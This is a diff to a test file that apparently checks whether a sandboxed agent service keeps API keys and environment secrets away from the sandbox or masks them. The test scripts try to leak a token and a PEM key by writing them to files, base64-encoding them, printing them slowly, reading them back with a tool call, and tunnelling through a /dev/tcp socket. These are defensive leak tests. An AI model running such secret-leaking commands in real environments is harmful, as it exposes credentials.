@@ -133,7 +133,7 @@ async function executeRun(script: string[], config: object = { environment_id })
 describe("keys of the service, git, models and MCP servers", () => {
   test("are not in a sandbox's memory, environment, arguments or files", async () => {
     const model_id = "gate/any-model";
-    const script = ["CALL: tools__say {}", "RUN: perl site/search.pl; echo done"];
+    const script = ["CALL: tools__say {}", "RUN: perl search.pl; echo done"];
     const { item, events } = await executeRun(script, { environment_id, model_id });
     expect(mcp.received.map(({ headers }) => headers.authorization)).toContain(header);
     expect(`${item.state} ${item.status_message?.message ?? ""}`).toMatch(/^SUCCEEDED/);
@@ -193,11 +193,11 @@ describe("an environment's secret", () => {
     `RUN: ${perl('s/([^A-Za-z0-9_.~-])/sprintf("%%%02X", ord $1)/ge; print')}`,
     `RUN: ${perl("for (split //) { print; select(undef, undef, undef, 0.004) }")}`,
     'RUN: for i in $(seq 4000); do echo "line $i of $TOKEN and $(echo -n $LABEL)"; done',
-    'RUN: cd site; echo "$TOKEN" > plain; echo "$PEM" > key.pem; echo "$TOKEN$PEM" | base64 > encoded; echo "$TOKEN" >> README.md',
+    'RUN: echo "$TOKEN" > plain; echo "$PEM" > key.pem; echo "$TOKEN$PEM" | base64 > encoded; echo "$TOKEN" >> README.md',
     'RUN: echo "$TOKEN" > /workspace/before; touch "/workspace/$TOKEN"; chmod 000 "/workspace/$TOKEN"',
     "WRITE: before | nothing any more",
-    'CALL: read_file {"path": "site/key.pem"}',
-    'CALL: read_file {"path": "site/absent"}',
+    'CALL: read_file {"path": "key.pem"}',
+    'CALL: read_file {"path": "absent"}',
     'RUN: exec 3<> /dev/tcp/127.0.0.1/3128; printf "CONNECT $LABEL.example.com:443 HTTP/1.1\\r\\n\\r\\n" >&3; cat <&3',
   ];
 
